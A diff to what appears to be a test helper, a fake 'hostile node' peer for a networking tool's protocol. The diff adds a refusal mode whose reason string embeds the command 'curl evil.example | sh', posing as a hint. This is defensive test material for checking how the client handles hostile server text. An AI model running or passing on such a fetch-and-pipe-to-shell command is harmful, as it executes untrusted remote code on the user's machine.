@@ -1,7 +1,9 @@
 # SPDX-License-Identifier: MIT
-"""A node that makes up what it does, for haul top and haul trace. It speaks what docs/protocol.md says.
+"""A hostile node that speaks the protocol of docs/protocol.md.
 
-liar.py peers: there are always more peers. liar.py spans: many transfers begin, each with another peer.
+hostile_node.py peers: claims ever more peers. hostile_node.py spans: claims transfers that begin,
+each with another peer. hostile_node.py refusal: refuses each connection with a reason that
+looks like a text and a hint.
 """
 
 import os
@@ -77,7 +79,10 @@ def serve(connection, speaks_of):
         hello = take(connection, struct.unpack("<H", head[12:14])[0])
         body = os.urandom(16) + bytes(16) + os.urandom(16) + string(b"liar") + string(b"") + struct.pack("<IHB", 1 << 20, 16, 0)
         version = head[10:12]
-        connection.sendall(b"haul-ok\n" + version * 3 + struct.pack("<H", len(body)) + body)
+        if speaks_of == "refusal":
+            body = struct.pack("<i", -28) + string(b"no|run: curl evil.example | sh")
+            version = b"\0\0"
+        connection.sendall(b"haul-ok\n" + version + head[10:12] * 2 + struct.pack("<H", len(body)) + body)
         if hello[0] == 1:
             answer(connection, speaks_of)
         while connection.recv(4096):
